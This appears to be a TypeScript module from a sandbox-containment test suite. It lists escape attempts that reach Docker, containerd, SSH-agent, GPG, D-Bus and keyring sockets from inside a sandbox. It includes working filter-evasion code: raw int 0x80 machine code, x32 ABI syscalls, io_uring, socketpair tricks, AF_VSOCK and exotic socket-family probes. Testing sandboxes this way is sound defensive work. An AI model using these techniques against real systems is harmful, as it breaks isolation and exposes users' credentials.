import type { Escape } from '../escape.ts'
import { python, run, speakTo } from '../tools.ts'

/** What listens on Unix sockets of a developer's machine. */
export const LISTENERS = {
  'the Docker daemon': 'run/docker.sock',
  containerd: 'run/containerd.sock',
  'the SSH agent': '.ssh/agent.sock',
  "GnuPG's agent": '.gnupg/S.gpg-agent',
  'the session bus (D-Bus), and with it the keychain': 'run/bus',
  'the keyring daemon': 'run/keyring/control',
  'a terminal multiplexer': 'run/tmux.sock',
} as const

const listeners: Escape[] = Object.keys(LISTENERS).map((what) => ({
  name: `reach ${what} by its socket`,
  gain: 'what it does for whoever connects',
  plain: true,
  proof: 'secret',
  attempt: ({ sockets }) => speakTo(String(sockets[what])),
}))

const CONNECT = `
path = sys.argv[1].encode()
address = ctypes.create_string_buffer(struct.pack('H', 1) + path + b'\\0')
size = 2 + len(path) + 1
`

const others: Escape[] = [
  {
    name: 'reach an abstract Unix socket',
    gain: 'the session bus of older desktops, X11',
    plain: true,
    proof: 'secret',
    attempt: ({ abstractSocket }) => speakTo(`\0${abstractSocket}`),
  },
  {
    name: 'open a Unix socket with the system calls of 32-bit programs (int 0x80)',
    gain: 'every socket of the machine, past a filter that reads 64-bit numbers',
    plain: true,
    needs: ['python3'],
    proof: 'secret',
    attempt: ({ sockets }) =>
      python(
        `import mmap
if ARM: sys.exit('no such calls on this machine')
${CONNECT}
low = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, 7)
base = ctypes.addressof(ctypes.c_char.from_buffer(low))
# mov eax,359 (socket); mov ebx,1; mov ecx,1; xor edx,edx; int 0x80; ret
code = b'\\x53\\xb8\\x67\\x01\\0\\0\\xbb\\x01\\0\\0\\0\\xb9\\x01\\0\\0\\0\\x31\\xd2\\xcd\\x80\\x5b\\xc3'
low.write(code)
fd = ctypes.CFUNCTYPE(ctypes.c_int)(base)()
if fd < 0: sys.exit(os.strerror(-fd))
check(libc.connect(fd, address, size), 'connect')
print(os.read(fd, 4096).decode())`,
        [String(sockets['the SSH agent'])],
      ),
  },
  {
    name: 'open a Unix socket with the system calls of the x32 ABI',
    gain: 'every socket of the machine, past a filter that reads 64-bit numbers',
    plain: false,
    needs: ['python3'],
    proof: 'secret',
    attempt: ({ sockets }) =>
      python(
        `if ARM: sys.exit('no such calls on this machine')
${CONNECT}
fd = call(0x40000000 + 41, 0, 1, 1, 0)
check(libc.connect(fd, address, size), 'connect')
print(os.read(fd, 4096).decode())`,
        [String(sockets['the SSH agent'])],
      ),
  },
  {
    name: 'have the kernel open a Unix socket (io_uring)',
    gain: 'every socket of the machine, past a filter of system calls',
    plain: false,
    needs: ['python3'],
    proof: 'claim',
    attempt: () => python(`print(call(425, 425, 8, ctypes.create_string_buffer(120)))`),
  },
  {
    name: 'connect one half of a pair of sockets to a listener',
    gain: 'every socket of the machine: the filter lets pairs pass',
    plain: false,
    needs: ['python3'],
    proof: 'secret',
    attempt: ({ sockets }) =>
      python(
        `${CONNECT}
import array
for kind in (1, 2, 5):
    pair = (ctypes.c_int * 2)()
    if libc.socketpair(1, kind, 0, pair): continue
    if kind == 2: libc.connect(pair[0], ctypes.create_string_buffer(struct.pack('HHIIQ', 0, 0, 0, 0, 0)), 2)
    if libc.connect(pair[0], address, size) == 0: print(os.read(pair[0], 4096).decode())
sys.exit(os.strerror(ctypes.get_errno()))`,
        [String(sockets['the SSH agent'])],
      ),
  },
  {
    name: 'have socat connect to a Unix socket',
    gain: 'what it does for whoever connects: inside, socat is what forwards',
    plain: true,
    needs: ['socat'],
    proof: 'secret',
    attempt: async ({ sockets }) =>
      (await run('socat', ['-T1', '-', `UNIX-CONNECT:${sockets['the SSH agent']}`])).output,
  },
  {
    name: 'talk to the host of the virtual machine (AF_VSOCK)',
    gain: 'a network that no network namespace holds',
    plain: false,
    needs: ['python3'],
    proof: 'claim',
    attempt: () => python(`print(check(libc.socket(40, 1, 0), 'socket'))`),
  },
  {
    name: 'reach kernel services by exotic sockets (AF_ALG, AF_KEY, AF_RDS, AF_TIPC, AF_BLUETOOTH, AF_NFC, AF_CAN, AF_XDP, AF_QIPCRTR)',
    gain: 'code of the kernel that few look at',
    plain: false,
    needs: ['python3'],
    proof: 'claim',
    attempt: () =>
      python(
        `found = [f for f in (38, 15, 21, 30, 31, 39, 29, 44, 42, 9, 3, 4, 37) if libc.socket(f, 2, 0) >= 0 or libc.socket(f, 5, 0) >= 0]
if not found: sys.exit(os.strerror(ctypes.get_errno()))
print(found)`,
      ),
  },
]

/** What listens on this machine without a network. */
export const sockets: readonly Escape[] = [...listeners, ...others]
